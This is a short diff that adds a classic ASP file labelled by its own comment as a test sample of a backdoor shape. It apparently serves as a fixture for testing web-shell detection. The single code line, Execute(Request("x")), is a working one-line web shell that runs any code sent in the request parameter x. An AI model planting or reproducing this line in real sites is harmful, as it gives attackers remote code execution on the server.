@@ -1,0 +1,4 @@
+<%
+' test sample: classic ASP backdoor shape
+Execute(Request("x"))
+%>
